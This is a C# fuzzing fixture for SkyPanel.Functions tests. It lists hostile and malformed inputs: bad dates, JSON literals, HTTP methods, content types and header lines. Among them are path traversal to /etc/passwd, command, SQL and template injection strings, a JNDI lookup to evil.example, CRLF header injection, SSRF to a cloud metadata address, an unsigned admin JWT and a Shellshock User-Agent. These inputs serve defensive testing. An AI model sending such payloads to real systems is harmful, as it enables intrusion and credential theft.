namespace SkyPanel.Functions.Tests.Fuzzing;

/// <summary>Hostile and unusual values.</summary>
internal static class Hostile
{
    /// <summary>Times: the earliest and the latest, invalid ones, and valid ones.</summary>
    public static readonly string[] Instants =
    [
        "0001-01-01", "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "9999-12-31", "9999-12-31T23:00:00Z",
        "9999-12-31T23:59:59.9999999Z", "9999-12-31T23:59:00-14:00", "0001-01", "9999-12",
        "0000-00", "2026-02-30", "2026-13", "2026-03-01T12:00:00", "2026-03-01T12:00:00+99:00", "2026-03-01T24:00:00Z",
        "4714-11-24T00:00:00Z", "12:00", "now", "infinity", "-infinity", "epoch",
        "2026-03-01", "2026-03-01T12:00:00Z", "2026-03-01T12:00Z", "2026-11",
    ];

    /// <summary>Texts for paths, queries, headers and text fields. None contains a word that answers must not contain, so answers may
    /// repeat them.</summary>
    public static readonly string[] Texts =
    [
        .. Instants,
        "", " ", "\0", "a\0b", ".", "..", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%", "%zz", "%00", "%2e%2e%2f",
        "//evil.example/", "?", "#", "*", "~", "|id", "`id`", "$(id)",
        "-1", "0", "007", "+7", " 7", "7 ", "1e3", "0x10", "1_000", "1,000", "٣", "２", "2147483647", "2147483648", "-2147483649",
        "9223372036854775807", "9223372036854775808", "99999999999999999999",
        "1.5", "NaN", "Infinity", "-0", "true", "null", "undefined", "[]", "{}", "__proto__", "constructor",
        "'; drop table users;--", "' or '1'='1", "1;SELECT pg_sleep(1)", "\\", "'", "\"", "%' --", "$1", "@id", "$$",
        "<script>alert(1)</script>", "<!--", "]]>", "=1+1", "@SUM(A1)", "${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "%s%n%x",
        "{0}", "{Path}",
        "a\r\nX-Injected: yes", "a\nX-Injected: yes", "\r\n\r\nHTTP/1.1 200 OK\r\n\r\n", "\t", "\v", "\u007f", "\u0085", "\u2028", "\ufeff",
        "\u202eabc", "e\u0301", "ﬀ", "İ", "ß", "😀", "\U0010ffff", "\uffff",
        "* * 29 2 *", "*/0 * * * *", "0 0 30 2 *", "0-99999999999 * * * *", "@reboot", "? ? ? ? ? ?", "L W # * *", "0 0 1 1 *",
        "0 24 * * *", "1/2/3 * * * *", "5-1 * * * *",
        "UTC", "Europe/Berlin", "Mars/Phobos", "../../etc/passwd", "/etc/passwd", "posixrules", "Etc/GMT+14", "US\\Pacific", "localtime",
        "approve", "settle", "http://169.254.169.254/latest", "file:///etc/passwd", "https://user:pass@evil.example/", "http://[::1]:1/",
            "https://discord.com/api/webhooks/1/a",
    ];

    /// <summary>Values for JSON fields: without a type, of the wrong type, too large.</summary>
    public static readonly string[] Literals =
    [
        "null", "true", "false", "0", "-1", "1.5", "1e2", "1e999", "-1e-999", "2147483648", "99999999999999999999", "0.1e1", "-0", "01",
        "+1", ".5", "NaN", "Infinity", "'a'", "\"", "\"\\\"", "\"\\x\"", "\"\\u12\"",
        "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\u0000\"", "\"a\\u0000b\"", "[]", "[1]", "{}", "{\"a\":1}", "[[[[]]]]", "\"1\"",
        "\"1,000\"", "\"1e3\"", "\"-1\"", "\" 1 \"", "\"79228162514264337593543950336\"",
        "\"0.0000001\"", "\"1000000.000001\"", "undefined", "", ",", ":", "//", "/**/1",
    ];

    public static readonly string[] Methods = ["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "CONNECT", "get",
        "PROPFIND", "X", "G\u0001T", "M-SEARCH", "GETGETGETGETGETGETGETGETGETGETGETGETGETGETGET"];

    public static readonly string[] ContentTypes =
    [
        "application/json", "application/json; charset=utf-16", "application/json; charset=utf-7", "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x", "multipart/form-data", "text/xml", "*/*", "",
        "application/json;;;", "application/json; charset=\"", "application/vnd.a+json", "a", "/", "application/problem+json",
    ];

    /// <summary>Header lines that have a meaning to some software.</summary>
    public static readonly string[] HeaderLines =
    [
        "Origin: https://evil.example", "Access-Control-Request-Method: DELETE", "X-HTTP-Method-Override: DELETE", "X-HTTP-Method: PUT",
        "X-Method-Override: PUT", "X-Original-URL: /api/admin/keys", "X-Rewrite-URL: /api/admin/keys",
        "X-Forwarded-Host: evil.example", "X-Forwarded-Prefix: /api", "X-Forwarded-Proto: https", "X-Forwarded-Proto: javascript",
        "X-Forwarded-Port: 99999999", "Forwarded: for=127.0.0.1;proto=https", "X-Real-IP: 127.0.0.1",
        "X-MS-CLIENT-PRINCIPAL: eyJyb2xlcyI6WyJhZG1pbiJdfQ==", "x-functions-key: anything", "Authorization: Basic YWRtaW46YWRtaW4=",
        "Authorization: Bearer", "Authorization: Bearer eyJhbGciOiJub25lIn0.eyJyb2xlcyI6WyJhZG1pbiJdfQ.",
        "traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
            "traceparent: 00-00000000000000000000000000000000-0000000000000000-00", "traceparent: zz", "tracestate: a=b,a=b",
            "baggage: a=%00",
        "x-request-id: of-my-own", "Request-Id: |a.", "Range: bytes=0-1", "If-None-Match: *", "If-Modified-Since: never",
        "Accept: text/html", "Accept: ;q=2", "Accept-Encoding: gzip, br, zstd, x", "Accept-Language: xx-XX;q=9",
        "Content-Encoding: gzip", "Content-Encoding: br",
            "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
            "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
        "Expect: 100-continue", "TE: trailers", "Trailer: x-api-key", "Cookie: .AspNetCore.Session=a; a=b", "Cache-Control: only-if-cached",
        "Pragma: no-cache", "Max-Forwards: 0", "Via: 1.1 a", "DNT: maybe", "Referer: javascript:alert(1)",
        "User-Agent: () { :; }; /bin/id", "From: a@evil.example\tb", "X-Debug: true", "X-Accel-Redirect: /etc/passwd", "Date: yesterday",
            "Content-MD5: a", "Content-Range: bytes 0-1/2",
    ];
}
